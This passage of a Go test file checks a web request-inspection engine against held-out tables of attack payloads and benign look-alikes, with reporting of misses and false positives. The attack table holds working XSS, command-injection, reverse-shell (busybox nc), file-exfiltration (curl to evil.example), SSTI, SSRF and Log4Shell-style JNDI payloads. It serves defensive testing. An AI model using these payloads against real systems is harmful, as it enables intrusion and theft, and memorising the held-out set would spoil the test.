		"<x contenteditable onblur=alert(1)>lose focus</x>",
		"<img src=x onerror=top[8680439..toString(30)](1)>",
		"<scr<script>ipt>alert(1)</scr</script>ipt>",
		"<IMG SRC=JaVaScRiPt:alert('XSS')>",
		"<svg onload=alert(1)//",
		"<img src=x onerror=\\u0061lert(1)>",
		"';window.location='//evil.example/?'+document.cookie;//",
	)
	add("xss", "query", "title", "\" autofocus onfocus=\"alert(1)", "' onmouseover='alert(1)", "\" style=\"animation-name:spin\" onanimationstart=\"alert(1)")
	add("xss", "query", "link", "javascript://%0aalert(1)", "javascript://app.example.com/%0Aalert(document.domain)")
	add("xss", "json", "bio", "\\u003cimg src=x onerror=alert(1)\\u003e")
	add("rce", "query", "host",
		";id #",
		"|| id",
		";ifconfig",
		";netstat -an",
		";cat$IFS/etc/passwd",
		";busybox nc 10.0.0.1 4444 -e sh",
		"$(id>/tmp/x)",
		"; curl -d @/etc/passwd evil.example",
		"& whoami &",
		"| net user",
		";php -r 'system(\"id\");'",
		";ruby -e 'exec \"id\"'",
		";cat</etc/passwd",
		";{ls,-la}",
		";$'\\x69\\x64'",
		";$'\\151\\144'",
		";i\\d",
		";\"i\"d",
		";who$@ami",
		";(id)",
		";sh -c id",
		";/bin/id",
		"|/usr/bin/whoami",
		";/sbin/ifconfig",
	)
	add("rce", "form", "host", "example.com\nid", "example.com\r\nuname -a")
	add("lfi", "query", "file",
		"....\\\\....\\\\....\\\\windows\\\\win.ini",
		"/.%2e/.%2e/etc/passwd",
		".%2e/.%2e/.%2e/etc/passwd",
		"%252e%252e%252fetc%252fpasswd",
		"..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
		"/etc//passwd",
		"/%65tc/passwd",
		"/proc/1/environ",
		"/proc/self/cwd/config.py",
		"../../../../usr/local/app/.env",
		"file:/etc/passwd",
		"php://input",
		"..\\/..\\/..\\/etc\\/passwd",
	)
	add("lfi", "query", "page", "../../../WEB-INF/web.xml", "../../../../../../boot.ini")
	add("path", "path", "",
		"/.git",
		"/.git/",
		"/.git/objects/info/packs",
		"/config/database.yml",
		"/.ssh/id_rsa",
		"/.bash_history",
		"/backup.7z",
		"/site-backup.tgz",
		"/WEB-INF/classes/application.properties",
		"/static/%2e%2e;/WEB-INF/web.xml",
		"/app/..%3b/WEB-INF/web.xml",
		"/..;/manager/html",
		"/%2e/WEB-INF/web.xml",
		"/api/..;/actuator/env",
		"/.git%2Fconfig",
		"/.%67it/config",
		"/debug/pprof/heap",
		"/_profiler/phpinfo",
		"/jolokia/list",
		"/terraform.tfstate.backup",
		"/db.sqlite3",
		"/.kube/config",
		"/dump.rdb",
		"/.mysql_history",
		"/storage/database.sqlite",
	)
	add("ssrf", "json", "url",
		"http://localhost.localdomain/",
		"http://[::]:80/",
		"http://0x7f.0x0.0x0.0x1/",
		"http://017700000001/",
		"http://127.000.000.001/",
		"http://[::ffff:7f00:1]/",
		"http://evil.example%2F@127.0.0.1/",
		"http://192.0.0.192/",
		"http://[::ffff:a9fe:a9fe]/",
		"http://0xA9.0xFE.0xA9.0xFE/",
		"http://169.254.43518/",
		"http://169.16689662/",
		"ftp://10.0.0.1/",
		"ldap://localhost:389/%0astats%0aquit",
		"tftp://evil.example:69/x",
		"http://internal-api.default.svc.cluster.local/",
		"http://vault.service.consul:8200/v1/secret/data/app",
		"http://host.docker.internal:2375/",
		"http://127.127.127.127/",
		"http://0/",
	)
	add("ssrf", "json", "webhook", "127.0.0.1:8080/admin", "localhost:6379")
	add("redirect", "query", "next",
		"/\t/evil.example",
		"http:/\\/\\evil.example",
		"%5C%5Cevil.example",
		"//3627734734",
		"vbscript:msgbox(1)",
		"//evil.example:443/",
		"/%2f%2fevil.example",
		"\\\\evil.example\\@app.example.com",
	)
	add("ssti", "query", "name",
		"${{<%[%'\"}}%\\.",
		"{{ config['SECRET_KEY'] }}",
		"{{ request.environ }}",
		"{{ joiner.__init__.__globals__ }}",
		"{{ dump(app) }}",
		"{{_self}}",
		"${product.getClass().getProtectionDomain().getCodeSource()}",
		"${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
		"[[${7*7}]]",
		"[(${7*7})]",
		"<%- global.process.mainModule.require('child_process').execSync('id') %>",
		"{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
		"{{request['__cl'+'ass__']}}",
		"{{ request|attr([\"_\"*2,\"class\",\"_\"*2]|join) }}",
		"{{().__class__.__base__.__subclasses__().pop(40)('/etc/passwd').read()}}",
		"{{ 7 * 7 }}",
		"#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
		"{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
		"{{ lipsum|attr('__globals__') }}",
	)
	add("nosql", "jsonraw", "",
		`{"username":{"$regex":"a.*","$options":"i"},"password":"x"}`,
		`{"username":{"\u0024ne":null},"password":{"\u0024ne":null}}`,
		`{"$and":[{"username":"admin"},{"password":{"$gt":""}}]}`,
		`{"pipeline":[{"$lookup":{"from":"users","localField":"a","foreignField":"b","as":"c"}}]}`,
		`{"user":{"$elemMatch":{"role":"admin"}}}`,
		`{"$where":"function() { return this.username == 'admin' }"}`,
	)
	add("nosql", "qsraw", "", "username[%24ne]=x&password[%24ne]=x", "search=%7B%22%24where%22%3A%22sleep(1000)%22%7D", "a=1&$where=1")
	add("nosql", "form", "password[$regex]", "^p")
	add("ldap", "form", "user",
		"admin)(%26)",
		"*)(|(&",
		"*)%00",
		"x)(objectclass=*))(&(objectclass=void",
		"*)(!(cn=admin)",
		"admin)(|(sAMAccountName=*",
		"*)(uid=*)(|(uid=*",
	)
	add("jndi", "header", "User-Agent",
		"${JNDI:ldap://evil.example/a}",
		"${jNdI:lDaP://evil.example/a}",
		"${${lower:${lower:jndi}}:${lower:ldap}://evil.example/a}",
		"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
		"${${lower:jnd}${lower:i}:${lower:ldap}://evil.example/a}",
		"${bundle:application:spring.datasource.password}",
		"${java:version}",
		"${web:rootDir}",
	)
	add("jndi", "header", "Authorization", "Bearer ${jndi:ldap://evil.example/a}")
	add("jndi", "query", "q", "%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2Fevil.example%2Fa%7D")
	add("graphql", "gql", "",
		"query { __schema @skip(if: false) { types { name } } }",
		"query Q($a: Boolean!) { __schema @include(if: $a) { types { name } } }",
		"{ me { "+strings.Repeat("... on User { ", 20)+"id"+strings.Repeat(" }", 20)+" } }",
	)
	add("graphql", "gqlraw", "", "{__schema{types{name}}}", "query { "+gqlRepeat(45, " ", func(i int) string { return fmt.Sprintf("p%d: resetPassword(code: \"%06d\") { ok }", i, i) })+" }")
	add("graphql", "gqlupload", "", "mutation($file: Upload!) { upload(file: $file) { id } __schema { types { name } } }", "mutation($file: Upload!) { upload(file: $file, path: \"../../../etc/passwd\") { id } }")
	return out
}

func heldoutBenign() []hoCase {
	var out hoTable
	add := out.add
	add("sqli", "query", "q",
		"select a plan that fits your team",
		"O'Reilly books on databases",
		"drop shipping from china",
		"rock and roll",
		"\"union station\" or \"penn station\"",
		"SQL injection tutorial for beginners",
		"50% off sale",
		"C# select statement example",
		"how to order by date in excel",
		"1=1 meaning in logic",
		"where is the nearest table tennis club",
	)
	add("sqli", "form", "comment",
		"I'd like to order 1-2 items; thanks",
		"Meet at 5 -- bring snacks",
		"Can you update the order from yesterday? We'd like to delete one line.",
		"10 O'Connell St., Apt #4",
		"Ben & Jerry's, 1 AND 2 scoops",
	)
	add("sqli", "query", "sort", "created_at desc", "-updated_at,name")
	add("sqli", "json", "sql", "SELECT id, name FROM users WHERE id = $1 ORDER BY name")
	add("sqli", "cookie", "last_search", "%22order%20status%22")

	add("xss", "json", "body",
		"<p>Hello <strong>world</strong></p>",
		"<a href=\"https://example.com\" target=\"_blank\" rel=\"noopener noreferrer\">link</a>",
		"<img src=\"https://cdn.example.com/a.png\" alt=\"cat\" width=\"200\">",
		"<p>Press <kbd>Ctrl</kbd>+<kbd>C</kbd></p>",
		"<ul><li>one</li><li>two</li></ul><table><tr><td>1</td></tr></table>",
		"<span style=\"color:#ff0000;font-weight:bold\">red</span>",
		"<blockquote cite=\"https://example.org/quote\">To be or not to be</blockquote>",
		"<p>Use the <code>onload</code> event to run code after the page loads.</p>",
		"I <3 cats & dogs",
	)
	add("xss", "query", "q",
		"a < b && c > d",
		"how to use script tag in html",
		"javascript: the good parts",
		"alert box css",
		"x => x * 2",
		"document.cookie is a property",
	)
	add("xss", "json", "snippet", "const el = document.getElementById('app'); el.textContent = 'Hi';")

	add("rce", "query", "q",
		"cat food",
		"ls command linux",
		"how to kill a process in linux",
		"rm -rf meaning",
		"ping pong table",
		"wget vs curl",
		"sleep apnea",
		"bash scripting tutorial",
		"id card renewal",
		"who am i movie",
	)
	add("rce", "form", "message",
		"Tom & Jerry; the movie",
		"Call me at 555-1234; or email",
		"The price is 5$ & shipping 2$",
		"Use && to chain commands in bash",
	)
	add("rce", "form", "tags", "a|b|c")
	add("rce", "form", "address", "12 Main St | Apt 3")
	add("rce", "json", "message", "Error: spawn /bin/sh ENOENT\r\n    at Process.ChildProcess._handle.onexit (node:internal/child_process:284:19)\r\n    at onErrorNT (node:internal/child_process:477:16)")
	add("rce", "json", "stack", "TypeError: Cannot read properties of undefined (reading 'id')\r\n    at UserCard (webpack:///./src/components/UserCard.jsx?:12:34)\r\n    at renderWithHooks (webpack:///./node_modules/react-dom/cjs/react-dom.development.js?:16305:18)")

	add("lfi", "query", "file", "report.pdf", "2024/01/photo.jpg", "emails/welcome.html", "src/components/Button.tsx")
	add("lfi", "query", "path", "/home/alice/docs/notes.txt", "/api/v1/etc/passwordless", "/api/v1/etc/passwords-policy", "C:\\Users\\alice\\Documents\\report.docx", "etc/passwordless-login.md")
	add("lfi", "json", "endpoint", "/api/v1/etc/passwordless")
	add("lfi", "query", "q", "etc passwd file format", "php filter tutorial", "win.ini settings")
	add("lfi", "form", "breadcrumb", "Home > Docs > Guides")

	add("path", "path", "",
		"/about",
		"/blog/git-tutorial",
		"/static/js/env.js",
		"/environment",
		"/git/help",
		"/products/backup-drive-2tb",
		"/downloads/setup.zip",
		"/blog/sql-tips",
		"/api/v1/config",
		"/.well-known/openid-configuration",
		"/.well-known/apple-app-site-association",
		"/static/dotenv-logo.png",
		"/images/git.png",
		"/docs/webinf",
		"/api/users/backup-codes",
		"/settings/environment-variables",
		"/api/v1/etc/passwordless",
		"/svn-guide",
	)

	add("ssrf", "json", "url",
		"https://example.com/image.png",
		"https://api.github.com/repos/gatehouse-dev/caddy-gatehouse",
		"https://example.com/path?ip=127.0.0.1",
		"https://10x.example.com/",
		"https://[2606:4700::1111]/",
		"https://1.1.1.1/dns-query",
		"https://s3.eu-west-1.amazonaws.com/bucket/key.json",
	)
	add("ssrf", "json", "webhook", "https://hooks.slack.com/services/T000/B000/XXXX")
	add("ssrf", "query", "image_url", "https://cdn.example.com/x.jpg?w=200&h=200")
	add("ssrf", "query", "avatar", "https://www.gravatar.com/avatar/0bc83cb571cd1c50ba6f3e8a78ef1346?d=identicon")
	add("ssrf", "form", "feed", "https://blog.example.com/rss.xml")

	add("redirect", "query", "next",
		"/dashboard",
		"/settings?tab=profile",
		"/search?q=//comments",
		"/a//b",
		"/@alice",
		"/path/to/page#section",
		"./relative",
		"/login?next=%2Fhome",
	)
	add("redirect", "query", "returnUrl", "%2Faccount%2Forders")
	add("redirect", "query", "redirect_uri", "https://app.example.com/callback")
	add("redirect", "query", "return_to", "https://app.example.com/")
	add("redirect", "query", "url", "https://www.example.com/landing")

	add("ssti", "json", "template",
		"Hello {{name}}, your order {{order.id}} has shipped.",
		"Dear ${firstName},",
		"{% if user %}Hi {{ user.first_name }}{% endif %}",
		"{{ 'now' | date: \"%Y\" }}",
		"{{> header}}{{{body}}}",
		"{count, plural, one {# item} other {# items}}",
		"{0} of {1} items",
	)
	add("ssti", "query", "q", "Math: 7*7=49", "email@domain.com", "@username mentions", "#{hashtag} generator")

	add("nosql", "jsonraw", "",
		`{"price":{"min":10,"max":20},"tags":["a","b"]}`,
		`{"$schema":"http://json-schema.org/draft-07/schema#","type":"object"}`,
		`{"definitions":{"x":{"$ref":"#/definitions/y"}}}`,
		`{"filter":{"status":"open","assignee":"me"}}`,
	)
	add("nosql", "query", "q", "$100 gift card", "where this = that")
	add("nosql", "query", "query", `{"status":"active"}`)
	add("nosql", "qsraw", "", "sort[created_at]=desc&filter[status]=active", "page[size]=20&page[number]=2")

	add("ldap", "query", "q",
		"John (Jack) Smith",
		"(555) 123-4567",
		"a*b",
		"C++ (programming)",
		"Smith, John",
		"foo & bar",
		"(see above) | (see below)",
	)
	add("ldap", "form", "filter", "(status=active)", "(&(objectClass=person)(cn=John*))")
	add("ldap", "form", "dn", "cn=John Smith,ou=People,dc=example,dc=com")

	add("jndi", "json", "message", "Hello ${user}, welcome", "${HOME}/bin", "price ${amount} USD", "server.port=${PORT:8080}")
	add("jndi", "header", "User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
	add("jndi", "form", "ldap_url", "ldaps://ldap.example.com:636/dc=example,dc=com")

	add("graphql", "gql", "",
		"query GetUser($id: ID!) { user(id: $id) { id name avatar(size: 64) __typename ...UserFields } } fragment UserFields on User { email createdAt __typename }",
		"mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { ok errors { field message } } }",
		"query Dashboard { "+gqlRepeat(12, " ", func(i int) string { return fmt.Sprintf("w%d: widget(id: %d) { title value }", i, i) })+" }",
		"query Deep { a { b { c { d { e { f { g { h { id } } } } } } } } }",
		"query Feed($withMedia: Boolean!, $skipAds: Boolean!) { feed { id media @include(if: $withMedia) { url } ad @skip(if: $skipAds) { id } } }",
		"query { node(id: \"VXNlcjox\") { ... on User { login } ... on Org { name } } }",
		"query { schemaVersion type(name: \"invoice\") { id } }",
		"subscription OnMessage { messageAdded(room: \"general\") { id text } }",
	)
	add("graphql", "gqlvar", "term", "select your plan", "how do I drop a table in postgres?")
	add("graphql", "gqlbatch", "", `[{"query":"query A { me { id } }"},{"query":"query B { cart { total } }"},{"query":"query C { notifications(first: 5) { id } }"}]`)
	add("graphql", "gqlget", "", "query($q:String){search(q:$q){id}}")

	add("upload", "file", "photo.jpg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb")
	add("upload", "file", "invoice.pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj")
	add("upload", "file", "data.csv", "id,name,email\n1,Alice,alice@example.com\n2,Bob O'Neil,bob@example.com\n")
	add("upload", "file", "icon.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5 10-5-10-5z\"/></svg>")
	add("upload", "file", "README.md", "# Setup\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```\n")
	add("upload", "filename", "", "report.final.pdf", "my photo (1).jpg", "archive.tar.gz", "index.html", "php-logo.png")

	// Second round: telemetry, chat and code that production APIs carry.
	add("rce", "json", "traceback", "Traceback (most recent call last):\r\n  File \"/app/main.py\", line 12, in <module>\r\n    import requests\r\nModuleNotFoundError: No module named 'requests'")
	add("rce", "json", "exception", "java.lang.NullPointerException: null\r\n\tat com.example.Foo.bar(Foo.java:42)\r\n\tat java.base/java.lang.Thread.run(Thread.java:833)")
	add("rce", "json", "log", "panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.main()\n\t/app/main.go:8 +0x1d\nexit status 2")
	add("rce", "json", "console", "Uncaught TypeError: Cannot read properties of null (reading 'addEventListener')\n    at https://app.example.com/static/js/main.3f2a.js:1:2345")
	add("rce", "json", "output", "INFO  Started server\r\nWARN  Disk usage at 91%\r\nERROR Connection refused: connect ECONNREFUSED 10.0.3.7:5432")
	add("rce", "json", "command", "npm run build && npm test")
	add("rce", "json", "text", "Run `npm install` then `npm start`", "the `id` field is required", "use `ls -la` to see hidden files")
	add("rce", "form", "message", "See you tomorrow ;)", "Great job :) | Thanks", "Smith & Wesson", "nc state vs duke")
	add("rce", "json", "schedule", "*/5 * * * *")
	add("rce", "header", "User-Agent", "curl/8.4.0", "python-requests/2.31.0", "Go-http-client/2.0", "okhttp/4.12.0")
	add("sqli", "query", "q", "Where the Crawdads Sing", "Drop Dead Gorgeous (1999)", "OR gate vs AND gate", "don't && won't")
	add("sqli", "form", "comment", "It's 5 o'clock -- somewhere", "Insert coin to continue")
	add("xss", "json", "code", "<button onClick={() => setOpen(true)}>Open</button>")
	add("xss", "json", "html", "<div class=\"alert alert-danger\" role=\"alert\">Payment failed</div>", "<p>See <a href=\"/docs#onload\">the onload docs</a></p>")
	add("xss", "json", "style", "background:url(/img/bg.png) no-repeat")
	add("xss", "query", "q", "<div> vs <span>")
	add("xss", "form", "comment", "Use <b>bold</b> and <i>italic</i> tags")
	add("lfi", "query", "template", "../partials/header")
	add("lfi", "query", "path", "docs/proc/self-service.md", "/api/v1/proc/selfie")
	add("lfi", "json", "url", "https://example.com/docs/../page")
	add("path", "path", "",
		"/api/v1/backups",
		"/api/v1/dumps/latest",
		"/docs/sql/select",
		"/packages/dotenv",
		"/wiki/Git_(software)",
		"/blog/2024/01/phpinfo-explained",
		"/static/app.js.map",
		"/releases/app-1.2.3.tar.gz",
		"/robots.txt",
		"/api/git/commits",
		"/manifest.json",
	)
	add("ssrf", "json", "endpoint", "https://sqs.us-east-1.amazonaws.com/123456789012/queue")
	add("ssrf", "json", "url", "https://metadata.example.com/v1/items", "https://www.google.com/search?q=169.254.169.254", "https://example.com:8443/")
	add("redirect", "query", "next", "/oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb", "%2F", "/search?q=http://example.org")
	add("redirect", "query", "returnTo", "/en-GB/checkout/")
	add("redirect", "query", "continue", "https://accounts.example.com/ServiceLogin?continue=https://mail.example.com/")
	add("ssti", "json", "template", "{{ $t('welcome') }}", "{{ user.name | capitalize }}", "Hi {{ first_name|default:\"there\" }}", "${price.toFixed(2)}", "{{#if isAdmin}}Admin{{/if}}", "{{ 3 }} items in cart")
	add("nosql", "jsonraw", "",
		`{"$id":"https://example.com/schema.json","title":"Order"}`,
		`{"amount":{"currency":"USD","value":"$5.00"}}`,
		`{"query":{"bool":{"must":[{"match":{"title":"search"}}]}}}`,
		`{"where":{"age":{"gt":18}}}`,
	)
	add("nosql", "qsraw", "", "filter[price][gte]=10", "q=price:>10")
	add("ldap", "query", "q", "(a) or (b)", "*.example.com", "foo*", "f(x)=x*2", ":-)", "(1) pick (2) pack (3) ship")
	add("ldap", "form", "email", "first.last+tag@example.com")
	add("jndi", "json", "config", "${{ secrets.GITHUB_TOKEN }}", "${var.region}", "java:comp/env/jdbc/AppDB", "%d{yyyy-MM-dd HH:mm:ss} %-5level %logger{36} - %msg%n")
	add("graphql", "gqlget", "", "query Product($id: ID!) { product(id: $id) { id title __typename } }")
	add("graphql", "gql", "",
		"{ __typename }",
		"query Products { products(first: 20, sortKey: BEST_SELLING) { edges { node { id title priceRange { minVariantPrice { amount currencyCode } } } } } }",
		"query D { a { b { c { d { e { f { g { h { i { j { k { l { m { id } } } } } } } } } } } } } }",
	)
	add("graphql", "gqlbatch", "", "["+gqlRepeat(10, ",", func(i int) string { return fmt.Sprintf(`{"query":"query Q%d { item(id: %d) { id } }"}`, i, i) })+"]")
	add("graphql", "gqlvar", "input", `{"body":"<p>Great <strong>product</strong>!</p>","rating":5}`)
	add("upload", "file", "report.docx", "PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00word/document.xml")
	add("upload", "file", "page.html", "<!DOCTYPE html><html><head><script src=\"/app.js\"></script></head><body><h1>Hi</h1></body></html>")
	add("upload", "file", "styles.css", "body { margin: 0; font-family: system-ui; } .btn:hover { color: #fff; }")
	add("upload", "file", "export.json", `{"users":[{"name":"Alice","role":"admin"}]}`)
	add("upload", "filename", "", "résumé.pdf", "photo.PNG", "2024-01-01 12.00.00.jpg")
	return out
}

// heldoutLimits are the cases decided against the table for a documented
// trade-off (docs/detection.md, Known limits), by class and value.
var heldoutLimits = map[[2]string]string{
	{"redirect", "//evil.example"}:                                 "a plain protocol-relative target is not judged: sign-on and payment flows send them",
	{"redirect", "//evil.example/%2f.."}:                           "a plain protocol-relative target is not judged: sign-on and payment flows send them",
	{"redirect", "//evil.example:443/"}:                            "a plain protocol-relative target is not judged: sign-on and payment flows send them",
	{"xss", "<button onClick={() => setOpen(true)}>Open</button>"}: "code in a free-text body is detected as what it is",
	{"ssrf", "https://www.google.com/search?q=169.254.169.254"}:    "a metadata address counts anywhere in a value (redirect chains put it in a URL's query)",
}

// hoRun inspects every case and returns, per class, the cases decided
// against want.
func hoRun(t *testing.T, eng *Engine, cases []hoCase, want bool) (wrong map[string][]hoCase, total map[string]int) {
	t.Helper()
	wrong, total = map[string][]hoCase{}, map[string]int{}
	for _, c := range cases {
		r, info := c.request()
		d, err := eng.InspectRequest(r, info)
		if err != nil {
			t.Fatal(err)
		}
		total[c.class]++
		if d.Blocked != want {
			wrong[c.class] = append(wrong[c.class], c)
			if why := heldoutLimits[[2]string{c.class, c.v}]; why != "" {
				t.Logf("  known limit (%s): %v", why, c)
			} else {
				t.Errorf("%v: blocked=%v, want %v: %v", c, d.Blocked, want, d.Matches)
			}
		}
	}
	return wrong, total
}

func hoReport(t *testing.T, what string, wrong map[string][]hoCase, total map[string]int) {
	t.Helper()
	classes := make([]string, 0, len(total))
	for c := range total {
		classes = append(classes, c)
	}
	sort.Strings(classes)
	sum, n := 0, 0
	for _, c := range classes {
		t.Logf("HELDOUT %s %-9s %2d/%d", what, c, len(wrong[c]), total[c])
		sum += len(wrong[c])
		n += total[c]
	}
	t.Logf("HELDOUT %s total %d/%d", what, sum, n)
}

func TestHeldoutAttacks(t *testing.T) {
	eng := mustEngine(t, Config{})
	wrong, total := hoRun(t, eng, heldoutAttacks(), true)
	hoReport(t, "missed", wrong, total)
}

func TestHeldoutBenign(t *testing.T) {
	eng := mustEngine(t, Config{})
	wrong, total := hoRun(t, eng, heldoutBenign(), false)
	hoReport(t, "false-positives", wrong, total)
}
